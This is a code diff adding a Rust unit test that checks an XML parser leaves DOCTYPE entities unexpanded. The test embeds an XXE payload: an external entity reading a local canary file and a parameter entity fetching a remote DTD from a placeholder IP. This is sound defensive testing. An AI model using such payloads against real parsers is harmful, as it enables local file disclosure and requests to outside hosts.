@@ -689,6 +689,28 @@ mod tests {
         assert_eq!(root.children[2].text, "<A");
     }
 
+    /// quick-xml reads a DOCTYPE as one event and never resolves what it declares: an entity that
+    /// would read a local file (or fetch a URL) stays the literal reference, and nothing is read.
+    #[test]
+    fn a_doctype_s_entities_are_never_expanded() {
+        let dir = tempfile::tempdir().unwrap();
+        let canary = dir.path().join("canary.txt");
+        std::fs::write(&canary, "CANARY-SECRET").unwrap();
+        let pom = format!(
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE project [\n<!ENTITY xxe SYSTEM \"file://{}\">\n\
+             <!ENTITY % p SYSTEM \"http://192.0.2.1:9/e.dtd\"> %p;\n<!ENTITY inner \"boom\">\n]>\n\
+             <project>\n  <name>&xxe;&inner;</name>\n</project>\n",
+            canary.display()
+        );
+        let root = parse_xml(&pom).unwrap();
+        assert_eq!(root.children[0].text, "&xxe;&inner;");
+        let leaves = crate::validation::build::leaf_elements(&pom);
+        assert!(
+            leaves.iter().all(|(_, value)| !value.contains("CANARY") && !value.contains("boom")),
+            "{leaves:?}"
+        );
+    }
+
     #[test]
     fn malformed_xml_is_none() {
         assert!(parse_xml("<project><a></b></project>").is_none());
